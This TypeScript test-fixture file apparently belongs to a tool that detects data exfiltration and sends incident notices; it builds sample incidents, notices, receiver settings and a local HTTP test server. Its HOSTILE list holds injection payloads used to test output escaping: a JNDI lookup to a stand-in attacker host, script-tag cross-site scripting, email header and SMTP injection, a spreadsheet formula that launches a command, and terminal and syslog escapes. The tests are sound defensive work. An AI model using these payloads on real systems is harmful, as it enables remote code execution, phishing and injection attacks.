/** Incidents, notices and receivers to test with. */
import { createServer, type IncomingHttpHeaders, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Incident } from "../../model/incident.ts";
import type { Notice } from "../../model/notification.ts";
import { Guard } from "./guard.ts";
import type { Attempt, ReceiverPorts } from "./receiver.ts";

/** 2026-03-20T09:46:40Z */
export const NOW = 1_774_000_000_000;

export function testIncident(over: Partial<Incident> = {}): Incident {
  return {
    schema_version: 1,
    uid: "3f9c2a11d0c54b7e9a3b1c2d4e5f6071",
    title: "alice pushed 224 MB to github.com/al1ce/notes, which policy does not sanction",
    severity: "high",
    risk_score: 74,
    reasons: [
      { text: "first push by this user to an unsanctioned owner", points: 44, finding: "f1" },
      { text: "224 MB is above the threshold of 50 MB", points: 30, finding: "f2" },
    ],
    first_time: NOW - 660_000,
    last_time: NOW,
    actors: ["alice@acme.example", "alice"],
    hosts: ["ws-017"],
    addresses: ["10.1.4.17"],
    destinations: ["github.com/al1ce/notes"],
    bytes_out: 224_395_264,
    behaviours: ["push-to-unsanctioned-repository", "stage-then-send"],
    analytics: ["AN0895"],
    attack: ["T1567.001", "T1560.001"],
    findings: [
      {
        uid: "f1",
        rule: "push-to-unsanctioned-owner",
        title: "Push to an owner that policy does not sanction",
        time: NOW,
        severity: "high",
        activities: ["a1"],
      },
    ],
    visibility: { endpoint: "seen", network: "seen", identity: "nothing", repository: "not-visible" },
    destination_details: [
      { name: "github.com/al1ce/notes", verdict: "unsanctioned", visibility: "public", look_alike_of: null },
    ],
    blind_spots: [],
    next_steps: ["Ask alice what the push was for", "Look at what was packed on ws-017"],
    timeline: [
      { time: NOW, lane: "network", source: "squid", text: "POST /al1ce/notes/git-receive-pack", activity: "a1" },
    ],
    ...over,
  };
}

export function testNotice(over: Partial<Notice> = {}): Notice {
  const incident = over.incident ?? testIncident();
  return {
    delivery: "0123456789abcdef0123456789abcdef",
    change: "new",
    previous_severity: null,
    thread: incident.uid,
    merged: [],
    incident,
    state: "open",
    assignee: null,
    disposition: null,
    test: false,
    ...over,
  };
}

/** Everything that would change a format, a page or a terminal, in every field that comes from logs. */
export const HOSTILE: readonly string[] = [
  "<!channel> <@U123> <https://evil.example|click>",
  "*bold* _it_ ~no~ `code` [link](https://evil.example) ![x](https://evil.example/x.png)",
  "a|b\\c=d ^e\tf",
  'x"] [evil@1 y="z',
  "line\r\nBcc: victim@acme.example\r\n\r\nbody",
  "\r\n.\r\nMAIL FROM:<x@evil.example>",
  "<script>alert(1)</script><img src=x onerror=alert(1)>\"'&",
  "{{DATE(2026-01-01T00:00:00Z,SHORT)}} ${jndi:ldap://evil.example/a} {{constructor}}",
  "\u001b[31mred\u0007 \u0000 \u202egnp.exe \u200bzero \ufeffbom",
  "=?utf-8?B?ZXZpbA==?= =cmd|' /C calc'!A0",
  "lone \ud800 surrogate",
  "<13>1 2026-01-01T00:00:00Z fake app - - - injected",
  "__proto__",
  "漢字 🚀 Zoë",
];

export function hostileIncident(): Incident {
  const text = HOSTILE.join(" ");
  return testIncident({
    title: text,
    reasons: HOSTILE.map((each, index) => ({ text: each, points: index, finding: "f1" })),
    actors: HOSTILE,
    hosts: HOSTILE,
    addresses: ["10.1.4.17", ...HOSTILE],
    destinations: HOSTILE,
    next_steps: HOSTILE,
    findings: [{ uid: "f1", rule: text, title: text, time: NOW, severity: "high", activities: HOSTILE }],
  });
}

export function testPorts(over: Partial<ReceiverPorts> = {}): ReceiverPorts {
  return {
    clock: { now: () => NOW },
    guard: new Guard({ allowPrivate: true, named: [] }),
    hostname: "sally.acme.example",
    version: "1.2.3",
    link: (uid) => `https://sallyport.acme.example/incidents/${uid}`,
    readFile: () => "",
    ...over,
  };
}

export function testAttempt(over: Partial<Attempt> = {}): Attempt {
  return {
    delivery: "0123456789abcdef0123456789abcdef",
    again: false,
    reference: "",
    signal: new AbortController().signal,
    ...over,
  };
}

export interface ReceivedRequest {
  readonly method: string;
  readonly path: string;
  readonly headers: IncomingHttpHeaders;
  readonly body: string;
}

export interface TestAnswer {
  readonly status?: number;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string;
}

export interface TestServer {
  readonly url: string;
  readonly requests: ReceivedRequest[];
  close(): Promise<void>;
}

/** An HTTP server that keeps what it is sent. @param answer may wait before it answers */
export async function startTestServer(
  answer: (request: ReceivedRequest) => TestAnswer | Promise<TestAnswer> = () => ({}),
): Promise<TestServer> {
  const requests: ReceivedRequest[] = [];
  const server: Server = createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on("data", (chunk: Buffer) => chunks.push(chunk));
    request.on("end", () => {
      const received = {
        method: request.method ?? "",
        path: request.url ?? "",
        headers: request.headers,
        body: Buffer.concat(chunks).toString("utf8"),
      };
      requests.push(received);
      void Promise.resolve(answer(received)).then(({ status = 200, headers = {}, body = "" }) =>
        response.writeHead(status, headers).end(body),
      );
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    requests,
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

/** Waits for something that comes about by itself. */
export async function eventually(holds: () => boolean, withinMs = 10_000): Promise<void> {
  const until = performance.now() + withinMs;
  while (!holds()) {
    if (performance.now() > until) throw new Error("it did not come about in time");
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}
